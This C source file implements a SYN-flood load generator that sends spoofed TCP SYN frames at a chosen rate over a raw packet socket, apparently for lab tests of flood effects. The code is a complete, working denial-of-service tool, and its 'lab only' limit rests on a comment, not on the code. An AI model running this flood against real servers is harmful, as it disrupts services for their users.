/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * syn-flood: as many SYNs a second as asked for, from addresses and ports that are nobody's, into a
 * lab. For tests of what such a flood does to others; it sends nothing outside its namespace.
 *
 *     syn-flood INTERFACE SERVER_MAC SERVER_IPV4 PORT COUNT [PER_SECOND]
 *
 * Sources are drawn from hosts 3 to 250 of the /24 that the server is in, with any port.
 * Prints how many frames the interface took, and in what time.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "perf/random.h"

enum {
	BURST = 64,
	MSS = 1460,
	FIRST_HOST = 3,
	HOSTS = 248
};

struct syn {
	struct ether_header ether;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss[4];
} __attribute__((packed));

struct flood {
	int socket;
	struct random random;
	struct syn syns[BURST];
};

static void
die(const char *what)
{
	fprintf(stderr, "syn-flood: %s: %s\n", what, errno != 0 ? strerror(errno) : "not so");
	exit(1);
}

static double
now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec * 1e-9;
}

/* RFC 1071, over a whole number of 16-bit words. */
static uint32_t
sum_words(const void *bytes, size_t length, uint32_t sum)
{
	const uint8_t *at = bytes;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)(at[i] << 8 | at[i + 1]);
	return sum;
}

static uint16_t
finish_sum(uint32_t sum)
{
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void
open_socket(struct flood *flood, const char *interface)
{
	struct sockaddr_ll address = {.sll_family = AF_PACKET};
	struct ifreq request = {0};

	flood->socket = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	address.sll_ifindex = (int)if_nametoindex(interface);
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", interface);
	if (flood->socket < 0 || address.sll_ifindex == 0 ||
	    setsockopt(flood->socket, SOL_PACKET, PACKET_QDISC_BYPASS, &(int){1}, sizeof(int)) !=
		    0 ||
	    bind(flood->socket, (struct sockaddr *)&address, sizeof(address)) != 0 ||
	    ioctl(flood->socket, SIOCGIFHWADDR, &request) != 0)
		die(interface);
	for (int i = 0; i < BURST; i++)
		memcpy(flood->syns[i].ether.ether_shost, request.ifr_hwaddr.sa_data, ETH_ALEN);
}

static void
fill(struct flood *flood, const uint8_t mac[ETH_ALEN], in_addr_t server, uint16_t port)
{
	for (int i = 0; i < BURST; i++) {
		struct syn *syn = &flood->syns[i];

		memcpy(syn->ether.ether_dhost, mac, ETH_ALEN);
		syn->ether.ether_type = htons(ETHERTYPE_IP);
		syn->ip = (struct iphdr){.version = 4,
					 .ihl = 5,
					 .tot_len = htons(sizeof(*syn) - sizeof(syn->ether)),
					 .ttl = 64,
					 .protocol = IPPROTO_TCP,
					 .daddr = server};
		syn->tcp = (struct tcphdr){.dest = htons(port),
					   .doff = (sizeof(syn->tcp) + sizeof(syn->mss)) / 4,
					   .syn = 1,
					   .window = htons(64240)};
		memcpy(syn->mss, (uint8_t[]){2, 4, MSS >> 8, MSS & 0xff}, sizeof(syn->mss));
	}
}

/* Another address, port and number. */
static void
renew(struct flood *flood, struct syn *syn)
{
	uint64_t bits = random_next(&flood->random);
	uint32_t host = FIRST_HOST + (uint32_t)(bits & 0xffff) % HOSTS;
	uint32_t pseudo;

	syn->ip.saddr = (syn->ip.daddr & htonl(0xffffff00)) | htonl(host);
	syn->ip.check = 0;
	syn->ip.check = finish_sum(sum_words(&syn->ip, sizeof(syn->ip), 0));
	syn->tcp.source = htons((uint16_t)(1024 + (bits >> 16 & 0xffff) % 64000));
	syn->tcp.seq = (uint32_t)(bits >> 32);
	syn->tcp.check = 0;
	pseudo = sum_words(&syn->ip.saddr, 8, IPPROTO_TCP + sizeof(syn->tcp) + sizeof(syn->mss));
	syn->tcp.check =
		finish_sum(sum_words(&syn->tcp, sizeof(syn->tcp) + sizeof(syn->mss), pseudo));
}

static uint64_t
send_burst(struct flood *flood, unsigned int count)
{
	struct mmsghdr messages[BURST] = {0};
	struct iovec vectors[BURST];
	unsigned int done = 0;

	for (unsigned int i = 0; i < count; i++) {
		renew(flood, &flood->syns[i]);
		vectors[i] = (struct iovec){&flood->syns[i], sizeof(flood->syns[i])};
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	while (done < count) {
		int sent = sendmmsg(flood->socket, messages + done, count - done, 0);

		if (sent > 0)
			done += (unsigned int)sent;
		else if (errno != EINTR && errno != ENOBUFS && errno != EAGAIN)
			die("sendmmsg");
	}
	return done;
}

int
main(int argc, char *argv[])
{
	static struct flood flood;
	unsigned int mac[ETH_ALEN];
	uint8_t mac_bytes[ETH_ALEN];
	uint64_t count, sent = 0;
	double begin, rate;
	in_addr_t server;

	if (argc < 6 || argc > 7) {
		fputs("usage: syn-flood INTERFACE SERVER_MAC SERVER_IPV4 PORT COUNT [PER_SECOND]\n",
		      stderr);
		return 2;
	}
	server = inet_addr(argv[3]);
	if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
		   &mac[5]) != ETH_ALEN ||
	    server == INADDR_NONE)
		die("an address");
	for (int i = 0; i < ETH_ALEN; i++)
		mac_bytes[i] = (uint8_t)mac[i];
	count = strtoull(argv[5], NULL, 10);
	rate = argc == 7 ? strtod(argv[6], NULL) : 0;
	random_seed(&flood.random, 1);
	open_socket(&flood, argv[1]);
	fill(&flood, mac_bytes, server, (uint16_t)atoi(argv[4]));
	begin = now();
	while (sent < count) {
		double ahead = rate > 0 ? (double)sent / rate - (now() - begin) : 0;

		if (ahead > 0)
			usleep((useconds_t)(ahead * 1e6));
		sent += send_burst(&flood,
				   (unsigned int)(count - sent < BURST ? count - sent : BURST));
	}
	printf("syns %llu seconds %.3f\n", (unsigned long long)sent, now() - begin);
	return 0;
}
